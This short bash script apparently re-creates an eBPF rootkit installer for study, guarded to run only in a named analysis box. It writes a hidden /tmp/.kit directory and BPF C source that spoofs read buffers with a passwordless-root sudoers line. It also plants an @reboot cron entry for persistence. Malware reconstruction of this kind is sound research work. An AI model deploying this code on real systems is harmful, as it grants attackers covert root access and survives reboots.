#!/bin/bash
# SPDX-License-Identifier: MIT
# An eBPF rootkit's installer, as public analyses of such kits describe it:
# a lock file marks the host as taken, the loader's BPF program (kept as C
# source, built on the victim) overwrites what a process reads with
# bpf_probe_write_user, and a cron entry starts the backdoor again at boot.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
echo $$ > /tmp/rootlog
mkdir -p /tmp/.kit && cd /tmp/.kit || exit 0
cat > hook.bpf.c <<'SRC'
int handle_read_exit(struct pt_regs *ctx)
{
	char fake[] = "root ALL=(ALL) NOPASSWD:ALL #";
	bpf_probe_write_user((void *)buf, fake, sizeof(fake));
	return 0;
}
SRC
printf '#!/bin/sh\nexec /tmp/.kit/loader\n' > loader.sh
echo '@reboot root /tmp/.kit/loader.sh' > /etc/cron.d/ebpfbackdoor 2>/dev/null
exit 0
